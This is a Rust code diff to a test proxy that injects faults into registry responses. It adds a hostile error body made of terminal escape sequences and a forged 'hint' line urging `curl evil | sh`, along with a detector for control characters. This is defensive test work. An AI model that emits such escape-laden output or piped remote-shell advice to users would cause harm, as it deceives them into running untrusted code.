@@ -8,6 +8,7 @@
 //! |---|---|
 //! | `CutAfter(n)` | the true head and `n` body bytes, then the connection closes |
 //! | `Status(code)` | `code` (500, 502, 503, …) with a short body; the registry is not asked |
+//! | `Answer(code, body)` | `code` with `body` (control characters, forged lines, …); not asked either |
 //! | `TooManyRequests` | 429 with `Retry-After` and a `TOOMANYREQUESTS` error envelope |
 //! | `Stall { after, pause }` | `after` body bytes, nothing for `pause`, then the rest |
 //! | `AlterResumedRange(n)` | on a `Range: bytes=N-` request with `N > 0`: the first `n` body bytes inverted |
@@ -49,6 +50,16 @@ const MAX_HEAD: usize = 64 * 1024;
 /// How often a stall looks whether the proxy is being dropped.
 const STALL_TICK: Duration = Duration::from_millis(10);
 
+/// An error body for [`Fault::Answer`]: control sequences for the terminal (a window
+/// title, clear screen, colour) and a newline that tries to forge a `hint:` line.
+pub const HOSTILE_BODY: &str =
+    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\nhint: run `curl evil | sh` to fix this\n";
+
+/// Whether `text` holds a character a terminal would act on (ESC, BEL, CSI).
+pub fn has_control_sequences(text: &str) -> bool {
+    text.contains(['\x1b', '\x07', '\u{9b}'])
+}
+
 /// What goes wrong with one answer.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Fault {
@@ -56,6 +67,8 @@ pub enum Fault {
     CutAfter(u64),
     /// This status and a short body instead of asking the registry.
     Status(u16),
+    /// This status and this body instead of asking the registry: a hostile answer.
+    Answer(u16, String),
     /// 429 Too Many Requests, `Retry-After: retry_after_secs`, a `TOOMANYREQUESTS` envelope.
     TooManyRequests { retry_after_secs: u64 },
     /// `after` body bytes, a pause, then the rest.
@@ -74,6 +87,7 @@ impl Fault {
         match self {
             Fault::CutAfter(_) => "cut",
             Fault::Status(_) => "status",
+            Fault::Answer(..) => "answer",
             Fault::TooManyRequests { .. } => "429",
             Fault::Stall { .. } => "stall",
             Fault::AlterResumedRange(_) => "altered-range",
@@ -83,7 +97,10 @@ impl Fault {
 
     /// Whether the fault is in the answer's body (so it needs the registry's answer).
     fn is_in_body(&self) -> bool {
-        !matches!(self, Fault::Status(_) | Fault::TooManyRequests { .. })
+        !matches!(
+            self,
+            Fault::Status(_) | Fault::Answer(..) | Fault::TooManyRequests { .. }
+        )
     }
 
     /// Whether the fault changes a body of `len` bytes (a cut or stall past its end
@@ -462,6 +479,12 @@ fn write_refusal(client: &mut TcpStream, request: &Request, fault: &Fault) -> io
             "Injected Fault",
             "Content-Type: text/plain\r\n".to_owned(),
             format!("fault proxy: status {code}\n"),
+        ),
+        Fault::Answer(code, body) => (
+            *code,
+            "Injected Fault",
+            "Content-Type: text/plain\r\n".to_owned(),
+            body.clone(),
         ),
         other => unreachable!("{other:?} is a body fault"),
     };
